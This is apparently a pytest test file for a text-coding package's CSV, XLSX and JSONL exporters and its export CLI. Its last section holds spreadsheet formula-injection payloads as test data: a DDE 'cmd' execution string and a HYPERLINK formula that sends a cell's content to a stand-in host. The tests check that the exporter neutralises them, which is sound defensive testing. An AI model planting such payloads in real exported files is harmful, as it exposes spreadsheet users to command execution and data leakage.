"""CSV (plain and French Excel), XLSX workbook and JSONL exports; the export CLI."""

from __future__ import annotations

import json

import pandas as pd
import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from ptce_nlp.codebook import Codebook
from ptce_nlp.cli import main
from ptce_nlp.errors import OutputError
from ptce_nlp.export import write_jsonl, write_tables, write_xlsx
from ptce_nlp.export.tables import sheet_names

from .export_helpers import CORPUS, coded_corpus

CODED = pd.DataFrame({"doc_id": ["d1", "d2"], "code_id": ["a.b", "c"], "start_char": [3, 0],
                      "text": ["coopération; «solidaire»", "=SOMME(A1:A2)"], "negated": [True, False],
                      "density": [1.5, float("nan")]})


def test_write_tables_csv_plain_and_excel_fr(tmp_path):
    paths = write_tables({"coded_segments": CODED, "counts": CODED[["doc_id"]]}, tmp_path / "plain")
    assert [p.name for p in paths] == ["coded_segments.csv", "counts.csv"]
    raw = (tmp_path / "plain" / "coded_segments.csv").read_bytes()
    assert raw.startswith(b"doc_id,code_id,start_char,text,negated,density\n")
    assert b'd1,a.b,3,coop\xc3\xa9ration; \xc2\xabsolidaire\xc2\xbb,True,1.5\n' in raw
    write_tables({"coded_segments": CODED}, tmp_path / "fr", excel_fr=True)
    fr = (tmp_path / "fr" / "coded_segments.csv").read_bytes()
    assert fr.startswith(b"\xef\xbb\xbfdoc_id;code_id;start_char;text;negated;density\r\n")
    assert 'd1;a.b;3;"coopération; «solidaire»";True;1,5\r\n' in fr.decode("utf-8-sig")
    back = pd.read_csv(tmp_path / "fr" / "coded_segments.csv", sep=";", decimal=",", encoding="utf-8-sig")
    assert back["density"].tolist()[0] == 1.5
    assert back["text"].tolist() == ["coopération; «solidaire»", "'=SOMME(A1:A2)"]  # for Excel: no formula


def test_write_tables_refuses_bad_names_and_empty(tmp_path):
    with pytest.raises(OutputError, match=r"^table name '\.\./x' cannot be a file name"):
        write_tables({"../x": CODED}, tmp_path)
    with pytest.raises(OutputError, match="^no table to write$"):
        write_tables({}, tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_write_xlsx_one_sheet_per_table_text_never_formula(tmp_path):
    long = pd.DataFrame({"text": ["x" * 40_000, "page\x0cbreak"]})
    tables = {"coded_segments": CODED, "code_counts": CODED[["doc_id"]], "segments": long}
    path = write_xlsx(tables, tmp_path / "t.xlsx")
    book = load_workbook(path)
    assert book.sheetnames == ["coded_segments", "code_counts", "segments"]
    sheet = book["coded_segments"]
    rows = list(sheet.values)
    assert rows[0] == ("doc_id", "code_id", "start_char", "text", "negated", "density")
    assert rows[1] == ("d1", "a.b", 3, "coopération; «solidaire»", True, 1.5)
    assert rows[2] == ("d2", "c", 0, "=SOMME(A1:A2)", False, None)
    assert sheet["D3"].data_type == "s"
    assert sheet.freeze_panes == "A2"
    cells = [r[0] for r in book["segments"].values]
    assert len(cells[1]) == 32_767 and cells[1].endswith("[...]")
    assert cells[2] == "page break"
    assert sheet_names(["a/b", "a_b"]) == ["a_b", "a_b~2"]


def test_write_jsonl_one_object_per_line(tmp_path):
    path = write_jsonl(CODED, tmp_path / "c.jsonl")
    lines = path.read_text("utf-8").splitlines()
    assert len(lines) == 2
    assert json.loads(lines[0]) == {"doc_id": "d1", "code_id": "a.b", "start_char": 3,
                                    "text": "coopération; «solidaire»", "negated": True, "density": 1.5}
    assert json.loads(lines[1])["density"] is None
    assert "coopération" in lines[0]  # UTF-8, not \\u escapes


@pytest.fixture(scope="module")
def warm_cache():
    coded_corpus()  # parses are cached, so the CLI below only loads and matches


def test_cli_export_xlsx_csv_jsonl_on_the_corpus(tmp_path, warm_cache):
    runner = CliRunner()
    extra = tmp_path / "extra"
    extra.mkdir()
    pd.DataFrame({"doc_id": ["x"], "score": [0.5]}).to_csv(extra / "closeness.csv", index=False)
    result = runner.invoke(main, ["export", str(CORPUS), "--format", "xlsx", "--include-tables", str(extra),
                                  "--out", str(tmp_path / "ptce.xlsx"), "-q"])
    assert result.exit_code == 0, result.output
    book = load_workbook(tmp_path / "ptce.xlsx", read_only=True)
    assert book.sheetnames == ["coded_segments", "code_counts", "pole_counts", "closeness"]
    _, coding, _ = coded_corpus()
    assert book["coded_segments"].max_row == len(coding.coded) + 1
    result = runner.invoke(main, ["export", str(CORPUS), "--format", "csv", "--excel-fr", "--out",
                                  str(tmp_path / "csv"), "-q"])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in (tmp_path / "csv").iterdir()) == ["code_counts.csv", "coded_segments.csv",
                                                                     "pole_counts.csv"]
    assert (tmp_path / "csv" / "coded_segments.csv").read_bytes().startswith(b"\xef\xbb\xbfdoc_id;segment_id;")
    result = runner.invoke(main, ["export", str(CORPUS), "--format", "jsonl", "--out", str(tmp_path / "c.jsonl"),
                                  "-q"])
    assert result.exit_code == 0
    assert len((tmp_path / "c.jsonl").read_text("utf-8").splitlines()) == len(coding.coded)


def test_cli_export_usage_errors(tmp_path):
    runner = CliRunner()
    result = runner.invoke(main, ["export", "--format", "qdpx", "--out", str(tmp_path / "x.qdpx")])
    assert result.exit_code == 2 and "--format qdpx needs PATHS to read" in result.output
    result = runner.invoke(main, ["export", str(CORPUS), "--format", "qdc", "--out", str(tmp_path / "x.qdc")])
    assert result.exit_code == 2 and "--format qdc exports the codebook only: give no PATHS" in result.output
    result = runner.invoke(main, ["export", "--format", "qdc", "--out", str(tmp_path / "cb.qdc")])
    assert result.exit_code == 0 and result.output == f"Wrote {tmp_path / 'cb.qdc'} ({len(Codebook.shipped())} codes)\n"
    result = runner.invoke(main, ["export", str(tmp_path / "absent"), "--format", "jsonl", "--out",
                                  str(tmp_path / "x.jsonl")])
    assert result.exit_code == 4 and not (tmp_path / "x.jsonl").exists()


# --------------------------------------------------------------------------- formula injection

HOSTILE = pd.DataFrame({
    "doc_id": ["=cmd|' /C calc'!A0", "ok", "@SUM(1+1)", "+1+1", "-2+3", "\tx", "\rx", "-0.5", "a=b"],
    "pole": ['=HYPERLINK("http://x.invalid/?"&A1,"clic")'] * 9,
    "score": [-0.5, 1.0, -2.0, 0.0, 3.5, -1e-3, 2.0, 1.0, -7.0],
    "n": [-1, 2, 3, 4, 5, 6, 7, 8, 9],
})


def test_excel_fr_csv_neutralises_formula_cells_but_not_numbers(tmp_path):
    frame = HOSTILE.rename(columns={"pole": "=1+1"})
    before = frame.copy()
    write_tables({"t": frame}, tmp_path / "fr", excel_fr=True)
    back = pd.read_csv(tmp_path / "fr" / "t.csv", sep=";", decimal=",", encoding="utf-8-sig",
                       keep_default_na=False, dtype={"doc_id": str})
    assert list(back.columns) == ["doc_id", "'=1+1", "score", "n"]
    assert back["doc_id"].tolist() == ["'=cmd|' /C calc'!A0", "ok", "'@SUM(1+1)", "'+1+1", "'-2+3", "'\tx",
                                       "'\rx", "-0.5", "a=b"]
    assert set(back["'=1+1"]) == {"'" + HOSTILE["pole"][0]}
    assert back["score"].tolist() == HOSTILE["score"].tolist()  # numbers stay numbers, -0.5 included
    assert back["n"].tolist() == HOSTILE["n"].tolist()
    pd.testing.assert_frame_equal(frame, before)  # the caller's table is left as it was


def test_plain_csv_is_exact_for_scripts_and_round_trips(tmp_path):
    exact = HOSTILE  # a lone CR too: that table gets its text cells quoted (io.write_csv)
    write_tables({"t": exact}, tmp_path / "plain")
    back = pd.read_csv(tmp_path / "plain" / "t.csv", keep_default_na=False, dtype={"doc_id": str})
    pd.testing.assert_frame_equal(back, exact)


def test_excel_fr_csv_quotes_a_carriage_return_inside_a_cell(tmp_path):
    # Excel ends a row at a bare CR: "ok<CR>=cmd..." unquoted would start a new row with a formula.
    write_tables({"t": pd.DataFrame({"a": ["ok\r=cmd|' /C calc'!A0", "b"]})}, tmp_path, excel_fr=True)
    raw = (tmp_path / "t.csv").read_bytes()
    assert raw == "\ufeffa\r\n\"ok\r=cmd|' /C calc'!A0\"\r\nb\r\n".encode("utf-8")


def test_xlsx_stores_formula_like_cells_and_headers_as_text(tmp_path):
    import zipfile

    path = write_xlsx({"t": HOSTILE.rename(columns={"pole": "=1+1"})}, tmp_path / "t.xlsx")
    with zipfile.ZipFile(path) as zf:
        xml = zf.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml
    sheet = load_workbook(path)["t"]
    assert [c.value for c in sheet[1]] == ["doc_id", "=1+1", "score", "n"]
    assert all(c.data_type == "s" for c in sheet[1])
    assert [c.value for c in sheet["A"]][1:] == HOSTILE["doc_id"].tolist()
    assert all(c.data_type == "s" for c in sheet["A"][1:] + sheet["B"][1:])
    assert [c.value for c in sheet["C"]][1:] == HOSTILE["score"].tolist()
    assert all(c.data_type == "n" for c in sheet["C"][1:])
